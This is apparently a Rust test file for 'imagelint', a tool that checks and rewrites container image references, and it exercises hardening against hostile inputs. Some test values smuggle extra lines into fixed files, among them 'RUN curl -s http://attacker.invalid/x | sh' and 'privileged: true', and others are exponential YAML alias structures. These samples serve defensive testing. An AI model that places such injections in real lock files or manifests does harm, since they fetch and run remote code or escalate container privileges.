//! Hostile inputs (issue "Hardening"): each test here failed on the code
//! before its fix.

use crate::common::imagelint;
use std::fs;

/// A lock value that is not a digest could write any text into a file
/// through `--fix`: the lock is refused when loaded, naming the key, and no
/// file changes.
#[test]
fn a_hostile_lock_cannot_inject_through_fix() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let dockerfile = "FROM nginx:1.25\n";
    let compose = "services:\n  web:\n    image: nginx:1.25\n";
    fs::write(d.join("Dockerfile"), dockerfile).unwrap();
    fs::write(d.join("compose.yaml"), compose).unwrap();
    for digest in [
        "sha256:zz\\nRUN curl -s http://attacker.invalid/x | sh",
        "sha256:0\\n    privileged: true",
    ] {
        fs::write(
            d.join("imagelint.lock"),
            format!("version = 1\n[digests]\n\"docker.io/library/nginx:1.25\" = \"{digest}\"\n"),
        )
        .unwrap();
        let run = imagelint(d, &["check", "--fix"]);
        assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
        assert!(
            run.stderr.contains("docker.io/library/nginx:1.25")
                && run.stderr.contains("imagelint.lock"),
            "{}",
            run.stderr
        );
        assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
        assert_eq!(
            fs::read_to_string(d.join("Dockerfile")).unwrap(),
            dockerfile
        );
        assert_eq!(fs::read_to_string(d.join("compose.yaml")).unwrap(), compose);
    }
}

/// A mirror prefix is written into files: one that is empty, holds spaces
/// or a line break, or names no registry host is a config error.
#[test]
fn mirror_prefixes_are_validated() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let compose = "services:\n  web:\n    image: nginx:1.25\n";
    fs::write(d.join("compose.yaml"), compose).unwrap();
    for prefix in [
        "",
        "/",
        "registry corp/dockerhub",
        "corp/dockerhub",
        "m.example/x\\n    privileged: true",
    ] {
        fs::write(
            d.join(".imagelint.toml"),
            format!("[mirrors]\n\"docker.io\" = \"{prefix}\"\n"),
        )
        .unwrap();
        let run = imagelint(d, &["check", "--fix"]);
        assert_eq!(run.code, 2, "{prefix:?}: {}{}", run.stdout, run.stderr);
        assert!(run.stderr.contains("[mirrors]"), "{}", run.stderr);
        assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
        assert_eq!(fs::read_to_string(d.join("compose.yaml")).unwrap(), compose);
    }
}

fn temp_files(dir: &std::path::Path) -> Vec<String> {
    fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains(".tmp"))
        .collect()
}

fn mirrored(dir: &std::path::Path) {
    fs::write(
        dir.join(".imagelint.toml"),
        "[mirrors]\n\"docker.io\" = \"registry.corp.example/dockerhub\"\n",
    )
    .unwrap();
}

/// setuid and setgid survive a fix (the owner is set before the mode).
#[cfg(unix)]
#[test]
fn fix_keeps_setuid_and_setgid() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    mirrored(d);
    let file = d.join("Dockerfile");
    fs::write(&file, "FROM nginx:1.25\n").unwrap();
    fs::set_permissions(&file, fs::Permissions::from_mode(0o6755)).unwrap();
    let run = imagelint(d, &["check", "--fix"]);
    assert_ne!(run.code, 2, "{}", run.stderr);
    assert!(fs::read_to_string(&file)
        .unwrap()
        .contains("registry.corp.example"));
    let mode = fs::metadata(&file).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode, 0o6755, "{mode:o}");
}

/// An edit saved while `--fix` runs is kept: the fix is skipped with a
/// message; a temporary file of someone else's is neither used nor removed.
#[test]
fn an_edit_made_during_the_fix_is_not_lost() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_path_buf();
    mirrored(&d);
    let file = d.join("compose.yaml");
    fs::write(&file, "services:\n  web:\n    image: nginx:1.25\n").unwrap();
    let stale = d.join(".compose.yaml.imagelint-1.tmp");
    fs::write(&stale, "not ours").unwrap();
    let editor = {
        let file = file.clone();
        std::thread::spawn(move || {
            std::thread::sleep(std::time::Duration::from_millis(700));
            fs::write(&file, "services:\n  web:\n    image: nginx:1.26\n").unwrap();
        })
    };
    let run = crate::common::Imagelint::new(&d)
        .args(["check", "--fix"])
        .env("IMAGELINT_TEST_FIX_PAUSE_MS", "2000")
        .run();
    editor.join().unwrap();
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    assert!(
        run.stderr
            .contains("compose.yaml: cannot write the fix: the file changed"),
        "{}",
        run.stderr
    );
    assert_eq!(
        fs::read_to_string(&file).unwrap(),
        "services:\n  web:\n    image: nginx:1.26\n"
    );
    assert_eq!(fs::read_to_string(&stale).unwrap(), "not ours");
    assert_eq!(
        temp_files(&d),
        vec![".compose.yaml.imagelint-1.tmp".to_string()]
    );
}

/// SIGTERM while a fix is being written leaves no temporary file.
#[cfg(unix)]
#[test]
fn a_signal_leaves_no_temporary_file() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    mirrored(d);
    fs::write(
        d.join("compose.yaml"),
        "services:\n  web:\n    image: nginx:1.25\n",
    )
    .unwrap();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_imagelint"))
        .args(["check", "--fix"])
        .current_dir(d)
        .env("IMAGELINT_TEST_FIX_PAUSE_MS", "5000")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Wait for the temporary file, then end the run.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while temp_files(d).is_empty() && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert!(!temp_files(d).is_empty(), "no temporary file was made");
    let ok = std::process::Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(ok.success());
    let status = child.wait().unwrap();
    assert!(!status.success());
    assert_eq!(temp_files(d), Vec::<String>::new());
    assert_eq!(
        fs::read_to_string(d.join("compose.yaml")).unwrap(),
        "services:\n  web:\n    image: nginx:1.25\n"
    );
}

/// A FIFO named like a Dockerfile is reported and never opened (opening it
/// would wait forever); the other files are still checked.
#[cfg(unix)]
#[test]
fn fifos_are_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    fs::create_dir(d.join("a")).unwrap();
    let ok = std::process::Command::new("mkfifo")
        .arg(d.join("a/Dockerfile"))
        .status()
        .unwrap();
    assert!(ok.success());
    fs::write(
        d.join("compose.yaml"),
        "services:\n  web:\n    image: nginx:1.25\n",
    )
    .unwrap();
    for args in [
        &["check", "--format", "json-lines"][..],
        &[
            "check",
            "--format",
            "json-lines",
            "a/Dockerfile",
            "compose.yaml",
        ],
    ] {
        let run = imagelint(d, args);
        assert_eq!(run.code, 2, "{}", run.stderr);
        assert_eq!(
            run.stderr.trim(),
            "imagelint: a/Dockerfile: not a regular file (a FIFO, socket or device): not read"
        );
        assert!(run.stdout.contains("compose.yaml"), "{}", run.stdout);
    }
}

/// A symlink to a folder named like a file of some kind is skipped as the
/// folder itself would be; a symlink to a file outside the repository is
/// neither read nor written, as folder symlinks are not followed.
#[cfg(unix)]
#[test]
fn symlinks_to_folders_and_outside_files() {
    use std::os::unix::fs::symlink;
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    let elsewhere = dir.path().join("elsewhere");
    fs::create_dir_all(repo.join(".git")).unwrap();
    fs::create_dir_all(repo.join("chart/real")).unwrap();
    fs::create_dir_all(&elsewhere).unwrap();
    mirrored(&repo);
    symlink(repo.join("chart/real"), repo.join("chart/values.yaml")).unwrap();
    let outside = "image:\n  repository: nginx\n  tag: \"1.25\"\n";
    fs::write(elsewhere.join("values.yaml"), outside).unwrap();
    symlink(elsewhere.join("values.yaml"), repo.join("values.yaml")).unwrap();
    let inside = "services:\n  web:\n    image: nginx:1.25\n";
    fs::write(repo.join("real-compose.yaml"), inside).unwrap();
    symlink(repo.join("real-compose.yaml"), repo.join("compose.yaml")).unwrap();
    let run = imagelint(&repo, &["check", "--fix"]);
    assert_ne!(run.code, 2, "{}", run.stderr);
    assert_eq!(
        fs::read_to_string(elsewhere.join("values.yaml")).unwrap(),
        outside
    );
    // A link inside the repository is written through.
    assert!(fs::read_to_string(repo.join("real-compose.yaml"))
        .unwrap()
        .contains("registry.corp.example"));
    assert!(fs::symlink_metadata(repo.join("compose.yaml"))
        .unwrap()
        .is_symlink());
}

/// A UTF-8 byte order mark does not hide the first instruction; a UTF-16
/// file is called UTF-16, not binary.
#[test]
fn byte_order_marks() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    fs::write(d.join("Dockerfile"), b"\xef\xbb\xbfFROM python:3.11\n").unwrap();
    let run = imagelint(d, &["inventory", "--format", "csv"]);
    // Columns count Unicode scalar values, the mark among them.
    assert!(
        run.stdout.contains("Dockerfile,1,7,dockerfile,python:3.11"),
        "{}",
        run.stdout
    );
    let utf16: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(
            "FROM python:3.11\n"
                .encode_utf16()
                .flat_map(|u| u.to_le_bytes()),
        )
        .collect();
    fs::write(d.join("Dockerfile"), utf16).unwrap();
    let run = imagelint(d, &["check"]);
    assert_eq!(run.code, 2);
    assert_eq!(
        run.stderr.trim(),
        "imagelint: Dockerfile: UTF-16 text; imagelint reads UTF-8"
    );
}

/// Past 64 MiB a file is not read: a one-line error, the other files still
/// checked, memory bounded.
#[test]
fn oversized_files_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let f = fs::File::create(d.join("values.yaml")).unwrap();
    f.set_len(65 << 20).unwrap();
    fs::write(
        d.join("compose.yaml"),
        "services:\n  web:\n    image: nginx:1.25\n",
    )
    .unwrap();
    let run = imagelint(d, &["check", "--format", "json-lines"]);
    assert_eq!(run.code, 2);
    assert_eq!(
        run.stderr.trim(),
        "imagelint: values.yaml: larger than 64 MiB: not read"
    );
    assert!(run.stdout.contains("compose.yaml"));
}

/// Every error is one line: a bad regex in a custom rule is not printed over
/// many lines and kilobytes.
#[test]
fn errors_are_one_short_line() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let pattern = "(".repeat(3000);
    fs::write(
        d.join(".imagelint.toml"),
        format!("[[rule]]\nid = \"x\"\nseverity = \"error\"\nmessage = \"m\"\n[rule.match]\ntag = \"{pattern}\"\n"),
    )
    .unwrap();
    let run = imagelint(d, &["check"]);
    assert_eq!(run.code, 2);
    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    assert!(run.stderr.len() < 600, "{} bytes", run.stderr.len());
    assert!(
        run.stderr
            .starts_with("imagelint: .imagelint.toml: rule `x`"),
        "{}",
        run.stderr
    );
}

/// A tag or digest written inside a Helm map's `repository:` survives the
/// mirror rewrite: a pinned image is never turned into `latest`.
#[test]
fn helm_fixes_keep_what_repository_holds() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    mirrored(d);
    let digest = format!("sha256:{}", "0123456789abcdef".repeat(4));
    fs::write(
        d.join("values.yaml"),
        format!("a:\n  image:\n    repository: redis:7.2.4\nb:\n  image:\n    repository: redis@{digest}\n"),
    )
    .unwrap();
    let run = imagelint(d, &["check", "--fix"]);
    assert_ne!(run.code, 2, "{}", run.stderr);
    assert_eq!(
        fs::read_to_string(d.join("values.yaml")).unwrap(),
        format!("a:\n  image:\n    repository: registry.corp.example/dockerhub/library/redis:7.2.4\nb:\n  image:\n    repository: registry.corp.example/dockerhub/library/redis@{digest}\n")
    );
}

/// Tiny YAML that made the old code run for minutes: merge keys merging
/// the level below twice, 30 levels deep (1 KB), and six levels of maps
/// whose keys all alias the level below. Both are read in well under a
/// second now; the bound here is only against a hang.
#[test]
fn merge_chains_and_alias_fanout_stay_linear() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let mut chain = String::from("l0: &l0 {image: nginx:1.25}\n");
    for i in 1..30 {
        chain.push_str(&format!("l{i}: &l{i}\n  <<: [*l{}, *l{}]\n", i - 1, i - 1));
    }
    fs::write(d.join("values.yaml"), chain).unwrap();
    let mut fanout =
        String::from("x0: &x0 {template: {spec: {containers: [{name: a, image: nginx:1.25}]}}}\n");
    for level in 1..7 {
        let keys: Vec<String> = (0..40).map(|i| format!("k{i}: *x{}", level - 1)).collect();
        fanout.push_str(&format!("x{level}: &x{level} {{{}}}\n", keys.join(", ")));
    }
    fanout.push_str("apiVersion: apps/v1\nkind: Deployment\nspec: *x6\n");
    fs::write(d.join("deploy.yaml"), fanout).unwrap();
    let start = std::time::Instant::now();
    let run = imagelint(d, &["inventory", "--format", "csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stdout.contains("values.yaml,1,"), "{}", run.stdout);
    assert!(run.stdout.contains("deploy.yaml,1,"), "{}", run.stdout);
    assert!(
        start.elapsed() < std::time::Duration::from_secs(20),
        "{:?}",
        start.elapsed()
    );
}

/// A large file is analysed and written a part at a time (issue
/// "Hardening", item 12): the parts join up into the same report as one
/// whole, in source order, each finding once, in every output at once.
#[test]
fn large_files_stream_in_order() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let stages: String = (0..3000)
        .map(|i| format!("FROM nginx:1.{i} AS s{i}\n"))
        .collect();
    fs::write(d.join("Dockerfile"), &stages).unwrap();
    let docs: Vec<String> = (0..1500)
        .map(|i| format!("apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - {{name: a, image: redis:7.{i}}}\n"))
        .collect();
    fs::write(d.join("pods.yaml"), docs.join("---\n")).unwrap();
    let run = imagelint(
        d,
        &["check", "--format", "json", "--format", "sarif:out.sarif"],
    );
    assert_eq!(run.code, 1, "{}", run.stderr);
    let report = crate::common::json(&run);
    let findings = report["findings"].as_array().unwrap();
    // Two rules fire on each reference: a floating tag, Docker Hub unmirrored.
    assert_eq!(findings.len(), 2 * (3000 + 1500));
    let places = crate::common::finding_places(findings);
    let mut sorted = places.clone();
    sorted.sort();
    sorted.dedup();
    assert_eq!(places, sorted, "findings out of order or repeated");
    let sarif: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(d.join("out.sarif")).unwrap()).unwrap();
    assert_eq!(
        sarif["runs"][0]["results"].as_array().unwrap().len(),
        findings.len()
    );
}

/// Each document of a YAML stream is its own tree: an alias cannot reach an
/// anchor of an earlier document (libyaml refuses it too).
#[test]
fn anchors_do_not_cross_documents() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    fs::write(
        d.join("compose.yaml"),
        "x: &img nginx:1.25\n---\nservices:\n  web:\n    image: *img\n",
    )
    .unwrap();
    let run = imagelint(d, &["check"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("unknown anchor"), "{}", run.stderr);
}
